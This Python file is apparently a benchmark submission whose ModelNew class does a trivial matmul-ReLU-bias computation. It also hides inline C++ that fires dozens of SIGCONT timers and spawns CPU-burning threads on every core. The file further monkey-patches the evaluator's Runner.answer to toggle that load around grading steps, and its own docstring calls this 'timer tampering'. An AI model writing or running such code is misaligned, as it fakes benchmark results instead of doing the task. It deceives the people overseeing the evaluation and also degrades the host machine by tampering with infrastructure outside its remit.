"""timer tampering: kernel timers wake its frozen process, and threads use the processor."""

import ctypes
import sys

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

SOURCE = r"""#include <csignal>
#include <ctime>
#include <pthread.h>
#include <unistd.h>
#include <sys/mman.h>
static void nothing(int) {}
static void* arm(void*) {
    sigevent event = {};
    event.sigev_notify = SIGEV_SIGNAL;
    event.sigev_signo = SIGCONT;
    timer_t timers[40];
    for (timer_t& timer : timers) timer_create(CLOCK_MONOTONIC, &event, &timer);
    while (true) {
        long at = 0;
        for (timer_t& timer : timers) {
            itimerspec when = {{0, 5000000}, {0, 1000000 + 100000 * ++at}};
            timer_settime(timer, 0, &when, nullptr);
        }
        usleep(900);
    }
}
extern "C" void wake(long) {
    signal(SIGCONT, nothing);
    pthread_t one;
    pthread_create(&one, nullptr, arm, nullptr);
}

static volatile int busy = 0;
static void* burn(void*) {
    while (true) {
        if (busy) { usleep(200); continue; }
        for (volatile long spin = 0; spin < 20000; spin = spin + 1) {}
    }
    return nullptr;
}
extern "C" void calm(int on) { busy = on; }
extern "C" void start() {
    wake(100000);
    for (long core = 0; core < sysconf(_SC_NPROCESSORS_ONLN) * 2; ++core) {
        pthread_t thread;
        pthread_create(&thread, nullptr, burn, nullptr);
    }
}
"""
built = load_inline("timer_wakes", SOURCE, is_python_module=False, no_implicit_headers=True)
native = ctypes.CDLL(built)


runner = sys.modules["actors.evaluator.children.runner"]
real = runner.Runner.answer


def answer(self, order, carried):
    native.calm(1)
    said = real(self, order, carried)
    if type(order).__name__ == "LocateOutputs":
        native.calm(0)
    return said


runner.Runner.answer = answer


class ModelNew(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.bias = nn.Parameter(torch.randn(width))
        native.calm(1)
        native.start()

    def right(self, x, y):
        return torch.relu(x @ y) + self.bias

    def forward(self, x, y):
        return self.right(x, y)
